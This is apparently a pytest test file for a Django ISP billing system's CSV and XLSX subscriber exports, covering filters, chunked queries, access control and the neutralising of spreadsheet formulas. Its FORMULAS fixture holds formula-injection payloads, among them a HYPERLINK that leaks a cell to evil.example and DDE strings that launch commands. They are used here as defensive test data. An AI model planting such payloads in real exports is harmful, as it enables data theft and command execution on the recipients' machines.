"""Exporting lists as CSV and XLSX: the list's filters, every row in chunks, and no
formula a spreadsheet program would run."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from ispbill.backoffice.exports import ExportColumn, csv_lines, is_risky, neutralise, rows_in_chunks, write_xlsx
from ispbill.subscribers.models import Subscriber
from ispbill.subscribers.services import create_subscriber

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def add(world, username: str, **extra) -> Subscriber:
    fields = {"name": f"Name {username}", "phone": "01712345678", "package_id": world["basic"].pk, **extra}
    return create_subscriber(today=date(2026, 11, 25), pppoe_username=username, **fields)


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline="")))


def xlsx_sheet(response):
    data = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(data)).worksheets[0]


def test_csv_export_of_the_subscriber_list(world, client_for):
    response = client_for("viewer").get("/office/subscribers/export.csv")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="subscribers-2026-11-25.csv"'
    header, *rows = csv_rows(response)
    assert header[:4] == ["ID", "Name", "Username", "Phone"] and header[-1] == "Balance (BDT)"
    sub = world["sub"]
    [row] = rows
    assert row[:4] == [str(sub.pk), sub.name, sub.pppoe_username, sub.phone]
    assert row[header.index("Package")] == "Basic 10M"
    assert row[header.index("Area")] == "Mirpur"
    assert row[header.index("Status")] == "Active"
    assert row[header.index("Start date")] == "2026-11-01"
    assert Decimal(row[-1]) != 0  # November's invoice is unpaid


def test_xlsx_export_of_the_subscriber_list(world, client_for):
    response = client_for("billing").get("/office/subscribers/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="subscribers-2026-11-25.xlsx"' in response["Content-Disposition"]
    sheet = xlsx_sheet(response)
    header = [c.value for c in sheet[1]]
    row = sheet[2]
    assert header[:4] == ["ID", "Name", "Username", "Phone"]
    assert row[0].value == world["sub"].pk and row[0].data_type == "n"
    phone = row[header.index("Phone")]
    assert phone.value == world["sub"].phone and phone.data_type == "s"
    started = row[header.index("Start date")].value
    assert isinstance(started, datetime) and started.date() == date(2026, 11, 1)
    balance = row[header.index("Balance (BDT)")]
    assert balance.data_type == "n" and balance.value != 0
    assert sheet.max_row == 2


def test_exports_honour_the_list_filters(world, client_for):
    add(world, "uttara1", area="Uttara")
    add(world, "uttara2", area="Uttara", package_id=world["premium"].pk)
    add(world, "mirpur2", area="Mirpur")
    client = client_for("viewer")
    response = client.get("/office/subscribers/export.csv", {"area": "Uttara"})
    assert [r[2] for r in csv_rows(response)[1:]] == ["uttara1", "uttara2"]
    response = client.get("/office/subscribers/export.xlsx", {"area": "Uttara", "package": world["premium"].pk})
    assert [r[2] for r in xlsx_sheet(response).iter_rows(min_row=2, values_only=True)] == ["uttara2"]
    response = client.get("/office/subscribers/export.csv", {"q": "mirpur2"})
    assert [r[2] for r in csv_rows(response)[1:]] == ["mirpur2"]
    response = client.get("/office/subscribers/export.csv", {"overdue": "1"})
    assert [r[2] for r in csv_rows(response)[1:]] == [world["sub"].pppoe_username]


def test_the_list_links_to_exports_that_keep_its_filters(world, client_for):
    html = client_for("viewer").get("/office/subscribers/", {"area": "Mirpur", "status": "active", "after": "3"}).content.decode()
    assert 'id="export-csv" href="/office/subscribers/export.csv?area=Mirpur&amp;status=active"' in html
    assert 'id="export-xlsx" href="/office/subscribers/export.xlsx?area=Mirpur&amp;status=active"' in html
    html = client_for("admin").get("/office/subscribers/").content.decode()
    assert 'href="/office/subscribers/export.csv?"' in html


def test_formulas_are_neutralised_in_csv(world, client_for):
    for i, text in enumerate(FORMULAS):
        add(world, f"f{i}", name=text, area=text[:100], address=text)
    header, *rows = csv_rows(client_for("admin").get("/office/subscribers/export.csv"))
    by_username = {r[2]: r for r in rows}
    for i, text in enumerate(FORMULAS):
        row = by_username[f"f{i}"]
        assert row[header.index("Name")] == "'" + text.strip()  # names are stored trimmed
        assert row[header.index("Area")] == "'" + text[:100]
        assert row[header.index("Address")] == "'" + text
    for row in rows:
        # Phones (E.164) and negative amounts are plain numbers, not formulas: left alone.
        assert row[header.index("Phone")].startswith("+880")
        for cell in row:
            assert not cell.startswith(("=", "+cmd", "-1+", "@", "\t", "\r")), cell


def test_formulas_are_written_as_text_cells_in_xlsx(world, client_for):
    for i, text in enumerate(FORMULAS):
        add(world, f"f{i}", name=text, address=text)
    sheet = xlsx_sheet(client_for("admin").get("/office/subscribers/export.xlsx"))
    header = [c.value for c in sheet[1]]
    rows = {r[2].value: r for r in sheet.iter_rows(min_row=2)}
    for i, text in enumerate(FORMULAS):
        name = rows[f"f{i}"][header.index("Name")]
        assert name.data_type == "s", (text, name.data_type)
        assert name.value == text.strip()
        address = rows[f"f{i}"][header.index("Address")]
        # XML turns a carriage return into a line feed; the cell is text either way.
        assert address.data_type == "s" and address.value == text.replace("\r", "\n")
    for row in sheet.iter_rows():
        assert all(c.data_type != "f" for c in row)


@pytest.mark.parametrize(("text", "risky"), [
    ("=1", True), ("+cmd", True), ("-1+1", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
    ("-500.00", False), ("+8801712345678", False), ("1712345678", False), ("Rahim", False), ("", False),
    ("a=b", False), ("- item", True),
])
def test_what_counts_as_a_formula(text, risky):
    assert is_risky(text) is risky
    assert neutralise(text) == ("'" + text if risky else text)


def test_rows_are_read_in_chunks_of_constant_size(world):
    for i in range(6):
        add(world, f"chunk{i}")
    queryset = Subscriber.objects.filter(pppoe_username__startswith="chunk")
    with CaptureQueriesContext(connection) as queries:
        names = [s.pppoe_username for s in rows_in_chunks(queryset, size=4)]
    assert names == [f"chunk{i}" for i in range(6)]
    assert len(queries) == 2
    with CaptureQueriesContext(connection) as queries:
        assert len(list(rows_in_chunks(queryset, size=3))) == 6
    assert len(queries) == 3  # two full chunks, then one that finds nothing more
    with CaptureQueriesContext(connection) as queries:
        assert list(rows_in_chunks(Subscriber.objects.none(), size=3)) == []


def test_the_exporter_takes_any_rows_and_columns():
    rows = [
        SimpleNamespace(number="INV-1", customer=SimpleNamespace(name="=evil()"), total_paisa=150050, on=date(2026, 1, 2)),
        SimpleNamespace(number="INV-2", customer=None, total_paisa=-2500, on=None),
    ]
    columns = [
        ExportColumn("Number", "number"),
        ExportColumn("Customer", "customer.name"),
        ExportColumn("Total", "total_paisa", kind="money"),
        ExportColumn("Issued", "on"),
        ExportColumn("Note", lambda r: f"-{r.number}"),
    ]
    text = "".join(csv_lines(rows, columns))
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [
        ["Number", "Customer", "Total", "Issued", "Note"],
        ["INV-1", "'=evil()", "1500.50", "2026-01-02", "'-INV-1"],
        ["INV-2", "", "-25.00", "", "'-INV-2"],
    ]
    out = io.BytesIO()
    write_xlsx(rows, columns, out, title="Invoices")
    sheet = load_workbook(io.BytesIO(out.getvalue()))["Invoices"]
    assert [c.value for c in sheet[2]][:3] == ["INV-1", "=evil()", 1500.5]
    assert sheet["B2"].data_type == "s" and sheet["E3"].data_type == "s" and sheet["E3"].value == "-INV-2"
    assert sheet["C3"].value == -25.0


def test_exports_need_a_signed_in_user_with_the_list(world, client_for):
    nobody, admin = client_for("norole"), client_for("admin")
    for path in ("/office/subscribers/export.csv", "/office/subscribers/export.xlsx"):
        response = Client().get(path)
        assert response.status_code == 302 and response["Location"].startswith("/office/login/")
        assert nobody.get(path).status_code == 403
        assert admin.post(path).status_code == 405
